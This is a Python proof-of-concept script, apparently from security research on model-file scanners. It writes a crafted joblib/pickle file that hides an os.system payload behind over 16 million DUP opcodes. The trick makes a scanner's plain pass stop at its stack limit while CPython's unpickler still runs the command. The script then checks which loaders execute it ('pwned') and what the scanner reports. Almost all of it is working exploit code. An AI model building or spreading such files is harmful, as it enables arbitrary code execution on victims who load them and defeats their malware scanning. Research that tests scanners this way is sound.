# Aimed at pickle.load (C) / pickle._load on a joblib file. The first array's bytes, read as
# opcodes, are 2^24+16 DUPs and then os.system + STOP. joblib skips them as array data (the
# scanner's joblib pass too); the scanner's plain pass, which stands in for pickle.load, stops
# at its stack limit (2^24 entries) and keeps only the globals it met before, while CPython's
# unpickler has no such limit (134 MB of stack) and runs the payload.
import subprocess, sys
from common import *
tail = b'2' * ((1 << 24) + 16) + PAYLOAD + b'.'
N = len(tail)
hdr = b'\x80\x02' + G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(N) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR}b'
p = os.path.join(OUT, 'c5_plain_stack_limit.joblib')
open(p, 'wb').write(hdr + tail + b'.')
if VERIFY:
    for how in ['pickle.load', 'pickle._load', 'joblib.load']:
        mod = 'joblib' if how.startswith('joblib') else 'pickle'
        arg = repr(p) if mod == 'joblib' else f'open({p!r},"rb")'
        r = subprocess.run([sys.executable, '-c', f'import {mod}; {how}({arg})'], capture_output=True, text=True)
        print(how, 'pwned' in r.stdout, r.stderr.strip().split('\n')[-1][:100])
if SCAN:
    print(subprocess.run([SCAN, 'scan', p], capture_output=True, text=True).stdout)
